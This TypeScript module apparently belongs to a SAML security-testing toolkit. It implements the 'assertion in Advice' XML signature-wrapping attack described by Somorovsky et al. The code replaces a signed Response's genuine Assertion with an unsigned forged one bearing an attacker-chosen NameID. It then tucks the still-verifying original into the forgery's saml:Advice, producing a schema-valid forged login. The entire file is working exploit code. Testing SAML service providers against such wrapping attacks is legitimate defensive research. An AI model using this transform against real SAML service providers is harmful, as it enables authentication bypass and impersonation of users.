/*
 * Assertion in saml:Advice (Somorovsky et al., "On Breaking SAML", USENIX Security 2012, §4: the wrapper may be
 * any element whose schema admits an Assertion, and saml:Advice does, saml-core §2.6.1): an unsigned evil
 * Assertion (the attacker's NameID, a fresh ID) takes the genuine one's place as the Response's child, and the
 * genuine, signed Assertion moves into the evil one's Advice, where its signature still verifies. Unlike XSW4
 * the result is schema-valid. An SP that checks "some Assertion in the document verifies" and reads the top-level
 * one signs the attacker in; saml-profiles §4.1.4.2 needs the assertion it reads to be the one that is signed.
 */
import { NS } from '../namespaces.ts';
import { firstChild, parseXml, serialize } from '../xml.ts';
import { evilCopy, genuineAssertion } from './evil-assertion.ts';

export function assertionInAdvice(xml: string, attackerNameId: string): string {
  const doc = parseXml(xml, 'signed Response');
  const response = doc.documentElement!;
  const genuine = genuineAssertion(response, 'assertionInAdvice', { signed: true });
  const evil = evilCopy(genuine, attackerNameId);
  response.replaceChild(evil, genuine);
  const advice = doc.createElementNS(NS.assertion, 'saml:Advice');
  advice.appendChild(genuine);
  // Schema order (saml-core §2.3.3): Issuer, Signature, Subject, Conditions, Advice, then the statements.
  const conditions = firstChild(evil, NS.assertion, 'Conditions');
  evil.insertBefore(advice, conditions ? conditions.nextSibling : firstChild(evil, NS.assertion, 'Subject')!.nextSibling);
  return serialize(doc);
}
